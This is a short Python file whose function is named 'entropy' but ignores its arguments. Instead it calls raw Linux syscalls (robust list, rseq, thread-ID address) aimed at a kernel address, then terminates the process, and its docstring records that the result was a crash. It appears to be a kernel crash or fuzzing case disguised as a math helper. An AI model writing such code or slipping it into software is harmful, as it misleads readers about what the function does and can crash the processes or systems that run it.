"""Leaves the kernel lists of locks and a place to write to at its end, at addresses of its choice, and ends.

Outcome of entropy: crashed
"""

import ctypes
import os

ROBUST_LIST, RESTARTABLE, THREAD_ID, KERNEL = 273, 334, 218, 0xFFFFFFFF81000000


def entropy(p, base=2.718281828459045):
    libc, head = ctypes.CDLL(None), (ctypes.c_uint64 * 3)()
    head[0], head[2] = ctypes.addressof(head), KERNEL
    libc.syscall(ROBUST_LIST, head, 24)
    libc.syscall(RESTARTABLE, ctypes.c_void_p(KERNEL), 32, 0, 0x53053053)
    libc.syscall(THREAD_ID, ctypes.c_void_p(KERNEL))
    os._exit(0)
